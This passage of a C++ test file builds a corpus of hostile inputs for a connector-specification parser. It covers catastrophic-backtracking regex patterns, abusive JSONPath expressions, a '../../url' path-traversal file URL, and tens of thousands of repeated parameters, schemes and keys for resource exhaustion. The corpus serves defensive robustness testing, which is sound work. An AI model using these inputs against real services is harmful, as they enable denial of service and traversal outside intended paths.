        "(?=(a+))\\\\1", "[", "a{99999999}"})
    all.push_back({"patterns", pattern,
                   body("{properties: {a: {type: string, pattern: \""s + pattern + "\"}}}")});
  all.push_back(
      {"patterns", "of a credential",
       auth(
           "type: object\nproperties: {t: {pattern: \"(a+)+$\"}}\nauth_mapping: {token: '${t}'}")});
  all.push_back(
      {"patterns", "of text references",
       info("x-airbyte-context-store: {entities: [{entity: a, fields: [], "
            "x-airbyte-text-references: {fields: [a], pattern: '(a+)+$', resolve: []}}]}")});
  for (const char* const path :
       {"$..*", "$..a..b", "$[?(@.a)]", "$[?(1==1)]", "$[0:99999999]", "$[-99999999999999999999]",
        "$.a[*][*][*]", "`this`", "$.", "$[", "$['", "a", "", "$.a.`parent`", "$[*,*]"})
    all.push_back(
        {"paths into answers", path, operation("x-airbyte-record-extractor: \""s + path + "\"")});
  all.push_back({"paths into answers", "of 100 KB",
                 operation("x-airbyte-record-extractor: $" + repeated(".a", 50'000))});
  all.push_back({"paths into answers", "60 times all",
                 operation("x-airbyte-record-extractor: '$" + repeated("[*]", 60) + "'")});
  all.push_back(
      {"paths into answers", "10,000 metadata values, each of a whole walk",
       operation("x-airbyte-meta-extractor:\n" + numbered("  m#: '$.d[*].a[*][*].x'\n", 10'000)),
       "metadata"});
  all.push_back({"paths into answers", "metadata that is the answer, 2,000 times",
                 operation("x-airbyte-meta-extractor:\n" + numbered("  m#: $\n", 2'000)),
                 "metadata"});
  all.push_back(
      {"paths into answers", "a relation with quotes",
       operation("x-airbyte-meta-extractor: {a: '@link.\"><', b: '@header.', c: '@header.a b'}")});
  for (const char* const path : {"../../url", "a[99999999999999999999]", "a[-1]", "{secret}",
                                 "a..b", "[[0]]", "{a", "a[", "$.a"})
    all.push_back(
        {"file URLs", path,
         small({.action = "download", .operation = "x-airbyte-file-url: \""s + path + "\""})});
}

inline void add_crowds(std::vector<Hostile>& all) {
  const std::string elements = repeated("x, ", 40'000) + "x";
  all.push_back(
      {"crowds", "an enum of 40,000",
       operation("parameters: [{name: a, in: query, schema: {enum: [" + elements + "]}}]")});
  all.push_back({"crowds", "12,000 parameters",
                 operation("parameters:\n" + numbered("  - {name: p#, in: query}\n", 12'000))});
  all.push_back({"crowds", "12,000 required parameters",
                 operation("parameters:\n" +
                           numbered("  - {name: p#, in: query, required: true}\n", 9'000))});
  all.push_back({"crowds", "millions of parameters",
                 operation("parameters: [" + repeated("{},", 600'000) + "{}]"), "values"});
  all.push_back({"crowds", "12,000 properties",
                 body("{properties: {" + numbered("p#: {}, ", 12'000) + "q: {}}}")});
  all.push_back({"crowds", "20,000 required fields",
                 body("{required: [" + numbered("p#, ", 20'000) + "q], properties: {a: {}}}")});
  all.push_back(
      {"crowds", "5,000 schemes",
       components("securitySchemes:\n" + numbered("  s#: {type: http, scheme: bearer}\n", 5'000))});
  all.push_back(
      {"crowds", "5,000 schemes that need things",
       components(
           "securitySchemes:\n" +
           numbered("  s#: {type: http, scheme: bearer, x-airbyte-auth-config: {type: object, "
                    "required: [f#], properties: {f#: {}}, auth_mapping: {token: '${f#}'}}}\n",
                    2'500))});
  all.push_back({"crowds", "10,000 credential fields",
                 auth("type: object\nproperties:\n" + numbered("  f#: {}\n", 10'000) +
                      "auth_mapping: {token: \"" + numbered("${f#}", 10'000) + "\"}")});
  all.push_back({"crowds", "12,000 scopings",
                 info("x-airbyte-scoping:\n" + numbered("  - {param: p#}\n", 12'000))});
  all.push_back(
      {"crowds", "8,000 relationships",
       info("x-airbyte-entity-relationships:\n" +
            numbered("  - {source_entity: things, target_entity: things, foreign_key: k#}\n",
                     8'000))});
  all.push_back(
      {"crowds", "8,000 fields of the Context Store",
       info("x-airbyte-context-store:\n  entities:\n    - entity: things\n      fields:\n" +
            numbered("        - {name: f#, type: string, description: d}\n", 8'000))});
  all.push_back(
      {"crowds", "40,000 unknown keys", info(numbered("unknown#: 1\n", 40'000)), "not known"});
  all.push_back(
      {"crowds", "40,000 unknown extensions", info(numbered("x-airbyte-unknwn#: 1\n", 40'000))});
  all.push_back({"crowds", "20,000 extracted values",
                 scheme("type: oauth2\nflows: {implicit: {}}\nx-airbyte-token-extract: [" +
                        numbered("a#, ", 20'000) + "b]"),
                 "not a variable"});
  all.push_back({"crowds", "40,000 scopes",
                 scheme("type: oauth2\nflows: {implicit: {scopes: {" + numbered("s#: d, ", 20'000) +
                        "t: d}}}")});
  all.push_back({"crowds", "40,000 hints",
                 operation("x-airbyte-ai-hints: {trigger_phrases: [" + elements + "]}")});
  all.push_back({"crowds", "200,000 values", "a: [" + repeated("1,", 200'000) + "1]", "values"});
}

inline void add_shapes(std::vector<Hostile>& all) {
  for (const char* const text : {"text", "[1, 2]", "null", "5", "''", "true"})
    all.push_back({"shapes", "only "s + text, text, "a mapping is expected"});
  all.push_back({"shapes", "nothing", "", "is empty"});
  all.push_back({"shapes", "only a comment", "# nothing\n", "is empty"});
  all.push_back({"shapes", "half a file", small({}).substr(0, 150), "a UUID is expected"});
  for (const char* const text : {"info: 5", "info: []", "paths: 5", "paths: []", "paths: {}",
                                 "servers: 5", "components: x", "security: x"})
    all.push_back({"shapes", text, "x-more: 1\n"s + text + "\n", "is missing"});
}

inline std::vector<Hostile> corpus() {
  std::vector<Hostile> all;
  add_aliases(all);
  add_nesting(all);
  add_texts(all);
  add_keys(all);
  add_tags(all);
  add_encodings(all);
  add_numbers(all);
  add_references(all);
  add_servers(all);
  add_paths(all);
  add_headers(all);
  add_templates(all);
  add_expressions(all);
  add_crowds(all);
  add_shapes(all);
  return all;
}

}  // namespace fairlead::connector::hostile
